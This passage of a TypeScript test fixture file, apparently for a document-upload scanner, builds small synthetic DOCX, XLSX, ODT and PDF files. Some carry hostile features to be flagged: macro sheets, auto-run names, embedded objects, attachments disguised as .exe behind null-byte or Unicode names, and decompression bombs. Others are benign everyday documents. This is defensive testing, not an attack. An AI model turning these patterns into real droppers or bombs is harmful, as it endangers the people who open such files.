        }),
      ],
      [
        'a sheet of macros',
        'a.xlsx',
        sheet({ 'xl/_rels/workbook.xml.rels': rels(['xlMacrosheet', 'a.xml']) }),
      ],
      [
        'a name that runs at the start',
        'a.xlsx',
        sheet({
          'xl/workbook.xml': '<workbook><definedName name="_xlnm.Auto_Open">a!A1</definedName></workbook>',
        }),
      ],
      ['macros', 'a.odt', odt('', { 'Basic/Standard/Module1.xml': '<script:module/>' })],
      ['a script in its text', 'a.odt', odt('<text:script script:language="JavaScript">a</text:script>')],
    ]),
    ...as('embedded-files', [
      [
        'a program of another name',
        'a.docx',
        word('', { 'word/_rels/document.xml.rels': rels(['oleObject', 'a.bin']), 'word/a.bin': 'x' }),
      ],
      ['a part of a kind that nobody knows', 'a.docx', word('', { 'word/a.dat': 'x' })],
      ['an archive called a picture', 'a.docx', holdingWorkbook('word/media/a.png', formula('A1'))],
      ['a text in a text', 'a.docx', holdingWorkbook('word/embeddings/a.xlsx', word(''))],
      [
        'a workbook in the workbook that it holds',
        'a.docx',
        holdingWorkbook(
          'word/embeddings/a.xlsx',
          holdingWorkbook('xl/embeddings/b.xlsx', formula('A1'), 'xl/workbook.xml'),
        ),
      ],
      [
        'a former version',
        'a.odt',
        zipOf([
          { name: 'mimetype', content: Buffer.from('application/vnd.oasis.opendocument.text') },
          { name: 'content.xml', content: Buffer.from('<a/>') },
          { name: 'Versions/Version1', content: odt('') },
        ]),
      ],
      ['a workbook that is none', 'a.docx', word('', { 'word/embeddings/a.xlsx': 'x' })],
      ['an object of another program', 'a.odt', odt('<draw:object-ole xlink:href="#a"/>')],
      ['a file in it', 'a.pdf', pdf('/Names << /EmbeddedFiles << /Names [] >> >>')],
      ['a file on its page', 'a.pdf', annotated('<< /Subtype /FileAttachment /Rect [0 0 9 9] >>')],
      ...[
        '/F (a.xml) /UF (a.exe)',
        '/F (a.xml\\000.exe)',
        '/UF (\\376\\377\\000a\\040\\056\\000l\\000m\\000x\\000.\\000e\\000x\\000e)',
        '/F (a.xml) /RF << >>',
        '/F 9 0 R',
      ].map((names): [string, string, Buffer] => [
        `a file of the names ${names}`,
        'a.pdf',
        holding(`/Type /Filespec ${names}`),
      ]),
      [
        'data, and a file on its page',
        'a.pdf',
        holding('/F (a.xml)', '8 0 obj << /Subtype /FileAttachment /Rect [0 0 9 9] >> endobj\n'),
      ],
      [
        'a file in an object',
        'a.pdf',
        pdf('', '5 0 obj << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> endobj\n'),
      ],
    ]),
    ...as('data-files', [
      [
        'the figures of an invoice',
        'a.pdf',
        holding('/Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Data'),
      ],
      ['the credential of a certificate', 'a.pdf', holding('/F (certificate.vc.jwt)')],
    ]),
    ...as('encrypted', [
      ['a PDF with a password', 'a.pdf', pdf('', '', '/Encrypt 9 0 R')],
      [
        'a text with a password',
        'a.odt',
        odt('', {
          'META-INF/manifest.xml':
            '<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
        }),
      ],
    ]),
    ...as('unpacks-too-large', [
      ['a document that unpacks to 200 MB', 'bomba.docx', bomb()],
      ['a workbook in it that unpacks to 100 MB as the document does', 'bomba.docx', bombWithin()],
      ...pdfBombs(),
    ]),
  ]
}

/** Documents as office programs save them every day, which do nothing by themselves. */
export function everydayDocuments(): { what: string; name: string; bytes: Buffer }[] {
  const file = (what: string, name: string, bytes: Buffer) => ({ what, name, bytes })
  return [
    file(
      'links, notes, a table of contents and pages counted',
      'a.docx',
      word(
        `${field(' TOC \\o "1-3" \\h \\z \\u ')}${field('PAGE  \\* MERGEFORMAT')}${field(' HYPERLINK &quot;https://example.org/a?b=c&quot; \\t &quot;_blank&quot; ')}${field(' HYPERLINK \\l &quot;_Toc1&quot; ')}${field(' = ', field(' NUMPAGES '), ' - 1 ')}${field(' ADDIN ZOTERO_ITEM CSL_CITATION {}')}<w:fldSimple w:instr=" DATE \\@ &quot;d/M/yyyy&quot; "/><w:footnoteReference w:id="2"/><v:shape><v:imagedata r:id="r1" o:title=""/></v:shape>`,
        {
          'word/_rels/document.xml.rels': rels(
            ['hyperlink', 'https://example.org/a?b=c#d', 'External'],
            ['hyperlink', 'mailto:a@example.org?subject=x', 'External'],
            ['hyperlink', 'otro.pdf', 'External'],
            ['hyperlink', '#seccion', 'External'],
            ['footnotes', 'footnotes.xml'],
            ['image', 'media/a.png'],
            ['package', 'embeddings/Hoja.xlsx'],
            ['customXml', '../customXml/item1.xml'],
          ),
          'word/_rels/settings.xml.rels': rels([
            'attachedTemplate',
            'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Carta.dotx',
            'External',
          ]),
          'word/footnotes.xml': '<w:footnotes><w:footnote><w:p/></w:footnote></w:footnotes>',
          'word/media/a.svg': '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"/>',
          'customXml/item1.xml': '<b:Sources xmlns:b="x"/>',
        },
      ),
    ),
    file(
      'a chart with its figures',
      'a.docx',
      zipOf([
        {
          name: '[Content_Types].xml',
          content: Buffer.from(
            '<Types><Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/></Types>',
          ),
        },
        { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
        { name: 'word/embeddings/Hoja.xlsx', content: formula('SUM(A1:A3)') },
      ]),
    ),
    file(
      'its figures beside a chart',
      'a.docx',
      holdingWorkbook('word/charts/Hoja.xlsx', formula('SUM(A1:A3)')),
    ),
    file(
      'fractions, pictures, fonts and links with their hints',
      'a.docx',
      word(
        `<m:oMath><m:f><m:num><m:r><m:t>f(x)|a|</m:t></m:r></m:num><m:den/></m:f></m:oMath>${field(' HYPERLINK "https://example.org" \\o "Ver: a\\b" \\t "_blank" \\h ')}${field(' HYPERLINK \\l _Toc1 \\* MERGEFORMAT ')}${field(' HYPERLINK "docs\\\\a.pdf" ')}`,
        {
          'word/media/a.emf': 'x',
          'word/fonts/font1.odttf': 'x',
          'docProps/app.xml': '<Properties><HyperlinkBase>https://example.org/</HyperlinkBase></Properties>',
          'word/charts/chart1.xml':
            "<c:chart><c:f>'[Gráfico en Microsoft Word]Hoja1'!$B$1</c:f><c:f>(Hoja1!$A$1,Hoja1!$A$3)</c:f></c:chart>",
        },
      ),
    ),
    file(
      'formulas, links within and a pivot table',
      'a.xlsx',
      sheet({
        'xl/worksheets/sheet1.xml': `<worksheet>${['SUM(A1:B9)', 'IF(A1="a|b","http://x",\'Hoja|2\'!A1)', 'VLOOKUP(A1,Tabla[Col|1],2,0)', 'HYPERLINK("https://example.org","a")', 'HYPERLINK("#\'Hoja 2\'!A1","a")', '_xlfn.XLOOKUP(A1,B:B,C:C)', '_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(A1))', 'INDIRECT("\'"&A1&"\'!B2")', 'HYPERLINK("#\'"&A1&"\'!A1","a")', 'HYPERLINK("https://example.org/"&A1)', 'SUM({1,2;3,4})', "SUM(Tabla[[#This Row],[Precio/kg]:[a']b]])", "SUM('Hoja 1:Hoja 3'!A1)", 'SUM(_xlfn.ANCHORARRAY(A1),#REF!,Año!$A:$A,[1]Hoja!A1)', '-A1%*1.5E+3>=2', "'a\"b'!A1"].map((text) => `<c><f>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f></c>`).join('')}<hyperlinks><hyperlink ref="A1" location="'Hoja 2'!A1"/></hyperlinks></worksheet>`,
        'xl/workbook.xml':
          '<workbook><definedNames><definedName name="_xlnm.Print_Area">Hoja!$A$1:$B$9</definedName></definedNames></workbook>',
        'xl/pivotCache/p1.xml':
          '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
        'xl/connections.xml':
          '<connections><connection id="1" type="5" refreshedVersion="8" background="1"/></connections>',
        'xl/printerSettings/p1.bin': '\0\0',
      }),
    ),
    file(
      'slides with buttons',
      'a.pptx',
      slides({
        'ppt/slides/slide1.xml':
          '<p:sld><a:hlinkClick r:id="r0" action="ppaction://hlinksldjump"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkClick r:id="" action="ppaction://media"/></p:sld>',
        'ppt/slides/_rels/slide1.xml.rels': rels(
          ['slide', 'slide2.xml'],
          ['video', '../media/a.mp4'],
          ['hyperlink', 'http://example.org', 'External'],
        ),
      }),
    ),
    file(
      'links, pictures, an object and forms',
      'a.odt',
      odt(
        '<office:scripts/><office:forms form:automatic-focus="false"><form:form xlink:href="" office:target-frame=""/></office:forms><text:a xlink:type="simple" xlink:href="https://example.org/" >a</text:a><text:a xlink:href="#1.Titulo|outline">a</text:a><text:a xlink:href="../otro.odt">a</text:a><draw:image xlink:href="Pictures/a%20b.png" xlink:actuate="onLoad"/><draw:object xlink:href="./Object 1" xlink:actuate="onLoad"/><draw:image xlink:href="./ObjectReplacements/Object 1"/><text:section-source text:section-name="a"/>',
        {
          'Pictures/a b.png': 'x',
          'Object 1/content.xml':
            '<office:document-content><chart:chart xlink:href=".." xlink:type="simple"/></office:document-content>',
          'ObjectReplacements/Object 1': 'x',
          'Configurations2/accelerator/current.xml': '',
          'layout-cache': 'x',
          'manifest.rdf':
            '<rdf:RDF><rdf:Description rdf:about="content.xml"><rdf:type rdf:resource="http://docs.oasis-open.org/ns/office/1.2/meta/odf#ContentFile"/></rdf:Description></rdf:RDF>',
          'styles.xml':
            '<office:document-styles grddl:transformation="http://docs.oasis-open.org/office/1.2/xslt/odf2rdf.xsl"><form:text form:control-implementation="ooo:com.sun.star.form.component.TextField" form:current-value="https://example.org"/><text:bibliography-mark text:url="https://example.org"/><text:a xlink:href="https://example.org" office:title="https://example.org"/></office:document-styles>',
          'meta.xml':
            '<office:document-meta><meta:template xlink:href="../../plantilla.ott"/></office:document-meta>',
          'META-INF/manifest.xml':
            '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>',
        },
      ),
    ),
    file(
      'formulas with rows within',
      'a.ods',
      openDocument(
        'spreadsheet',
        `<table:table-cell table:formula="of:=SUM({1;2|3;4};[.A1])"/><table:database-range table:name="a"/>${["of:=IF([.A1]=&quot;http://x&quot;;[$'Hoja 2'.B1:.B9];[.#REF!])", 'of:=COM.MICROSOFT.IFS([.A1]&gt;1;2)+ORG.LIBREOFFICE.ROUNDSIG([.A1];2)', 'of:=HYPERLINK(&quot;https://example.org&quot;)'].map((text) => `<table:table-cell table:formula="${text}" office:string-value="https://example.org"/>`).join('')}<style:map style:condition="cell-content()&gt;=0"/><table:content-validation table:condition="of:cell-content-is-in-list(&quot;a&quot;;&quot;b&quot;)"/><calcext:condition calcext:value="formula-is([.A1]&gt;3)"/><calcext:condition calcext:value="duplicate"/><calcext:condition calcext:value="between(1,2)"/><draw:equation draw:formula="if(?f0 ,sin(?f1 *(pi/180)),-$0 /2)"/>`,
      ),
    ),
    file(
      'slides with clicks',
      'a.odp',
      openDocument(
        'presentation',
        '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/><draw:a xlink:href="http://example.org"/>',
      ),
    ),
    file('a page', 'a.pdf', pdf('')),
    file(
      'an outline, links and a place to begin at',
      'a.pdf',
      pdf(
        '/OpenAction 9 0 R /Outlines 6 0 R /PageMode /UseOutlines /Names << /Dests << /Kids [] >> >> /URI << /Base (https://example.org/) >>',
        `5 0 obj ${page.replace('>>', '/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 0] /A << /Type /Action /S /URI /URI (https://example.org/\\(a\\)) >> >> << /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D (a) >> >> << /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >> << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:a@example.org) >> /PA << /S /URI /URI (http://a.example) >> >> << /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /NextPage >> >> << /Subtype /Highlight /Rect [0 0 9 9] /Popup 3 0 R >> << /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << >> >> ] >>')} endobj\n6 0 obj << /Type /Outlines /First 7 0 R /Last 8 0 R >> endobj\n7 0 obj << /Title (a) /Parent 6 0 R /Next 8 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 0 0] >> >> endobj\n8 0 obj << /Title (b) /Parent 6 0 R /Prev 7 0 R /Dest (b) >> endobj\n9 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n10 0 obj << /S /P /P 11 0 R /K 0 /A << /O /Layout /TextAlign /End >> >> endobj\n`,
      ),
    ),
    file(
      'streams packed as PostScript does',
      'a.pdf',
      pdf(
        '',
        [
          packedBy('[/ASCII85Decode /FlateDecode]', inBase85(deflateSync(Buffer.from('q Q')))),
          packedBy('[/ASCII85Decode /DCTDecode]', inBase85(Buffer.from('a picture'))),
          packedBy('[/AHx]', inHex(Buffer.from('q Q'))),
          packedBy('/LZWDecode', lzwOf(1)),
          packedBy(
            '[/ASCII85Decode /RunLengthDecode]',
            inBase85(Buffer.from([2, 113, 32, 81, 129, 32, 128])),
          ),
          packedBy('[]', Buffer.from('q Q')),
        ].join(''),
      ),
    ),
    file(
      'objects that are packed',
      'a.pdf',
      pdf('/OpenAction 7 0 R', packedObjects('[3 0 R /XYZ null null 0]')),
    ),
  ]
}
